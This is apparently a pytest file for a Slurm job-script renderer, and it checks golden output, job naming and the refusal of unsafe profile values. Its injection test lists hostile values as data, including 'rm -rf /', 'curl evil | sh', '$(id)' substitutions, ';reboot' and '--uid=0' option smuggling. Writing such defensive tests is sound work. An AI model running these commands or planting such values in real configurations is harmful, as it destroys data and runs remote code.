"""The worker job script: rendered from a profile, byte for byte as the golden
files, and no profile value can add a command or an option to it."""

from pathlib import Path

import pytest

from queue_engine.errors import SettingsError
from queue_engine.settings import load_settings
from slurm.jobscript import render

GOLDEN = Path(__file__).parent / "golden"

FULL_PROFILE = {
    "gpus": 2, "cpus": 8, "mem": "64G", "time": "1-00:00:00", "partition": "gpu", "account": "proj-42",
    "qos": "normal", "constraint": "a100&ib", "output": "/shared/qe/logs/%x-%j.out", "stop_before_end": 600,
    "extra": ["--exclusive", "--mail-user=ops@example.org"],
    "setup": ["module load cuda/12.4", "source /shared/qe/venv/bin/activate",
              "export VLLM_WORKER_MULTIPROC_METHOD=spawn"],
}


def settings_with(slurm, model="llama-70b", **autoscaler):
    return load_settings(environ={}, data_dir=Path("/srv/queue-engine"),
                         autoscaler={"deployment": "prod", **autoscaler},
                         models={model: {"path": "/models/llama", "slurm": slurm}})


@pytest.mark.parametrize("golden, slurm", [("minimal.sh", {}), ("full.sh", FULL_PROFILE)])
def test_the_script_is_the_golden_file(golden, slurm):
    assert render(settings_with(slurm), "llama-70b") == (GOLDEN / golden).read_text()


def test_the_script_names_the_job_after_deployment_and_model_and_ends_by_running_the_worker():
    script = render(settings_with({"gpus": 0}), "llama-70b")
    assert "#SBATCH --job-name=qe-prod-llama-70b\n" in script
    assert "#SBATCH --comment=queue-engine:prod:llama-70b\n" in script
    assert "--gres" not in script  # a CPU-only profile asks for no GPU
    assert script.rstrip().endswith("exec queue-engine worker --model llama-70b")


def test_a_profile_without_a_slurm_table_cannot_be_rendered():
    settings = load_settings(environ={}, models={"plain": {"path": "/models/plain"}})
    with pytest.raises(SettingsError, match=r"\[models.plain.slurm\]"):
        render(settings, "plain")


@pytest.mark.parametrize("field, value", [
    ("partition", "gpu\n#SBATCH --wrap=rm -rf ~"),
    ("partition", "gpu --uid=0"),
    ("account", "proj;reboot"),
    ("qos", "$(id)"),
    ("mem", "16G`id`"),
    ("time", "04:00:00 --begin=now"),
    ("constraint", "a100\ntouch /tmp/pwned"),
    ("output", "/tmp/x.out\nrm -rf /"),
    ("output", "/tmp/$(id).out"),
    ("extra", ["--exclusive\necho pwned"]),
    ("extra", ["--partition=gpu --uid=0"]),
    ("extra", ["echo pwned"]),
    ("setup", ["source venv/bin/activate\ncurl evil | sh"]),
    ("setup", ["module load cuda\r"]),
])
def test_values_that_could_break_out_of_their_line_are_refused(field, value):
    with pytest.raises(SettingsError, match=f"models.llama-70b.slurm.{field}"):
        settings_with({field: value})


@pytest.mark.parametrize("name", ["bad name", "x;id", "-rf", "a\nb", ""])
def test_model_and_deployment_names_are_plain_words(name):
    with pytest.raises(SettingsError, match="model profile name|deployment"):
        settings_with({}, model=name)
    with pytest.raises(SettingsError, match="autoscaler.deployment"):
        settings_with({}, deployment=name)


def test_min_workers_may_not_exceed_max_workers():
    with pytest.raises(SettingsError, match="min_workers"):
        settings_with({"min_workers": 3, "max_workers": 2})
